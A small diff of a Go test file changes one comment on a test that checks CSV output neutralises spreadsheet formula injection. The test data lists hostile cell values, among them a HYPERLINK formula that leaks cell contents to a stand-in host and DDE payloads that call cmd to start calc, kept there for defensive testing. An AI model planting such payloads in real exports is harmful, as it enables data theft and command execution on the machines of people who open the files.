@@ -135,7 +135,7 @@ func TestCSVParsesBack(t *testing.T) {
 }
 
 // TestCSVCellsInert: a cell that begins with =, +, -, @, a tab or a carriage return (from a
-// complainant's service text or a cause) comes out as text in a spreadsheet (SPEC section 10).
+// complainant's service text or a cause) comes out as text in a spreadsheet.
 func TestCSVCellsInert(t *testing.T) {
 	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
 		"+1+1", "\t=1+1", "\r=1+1", "\x1b=1+1", "\u202e=1+1"}
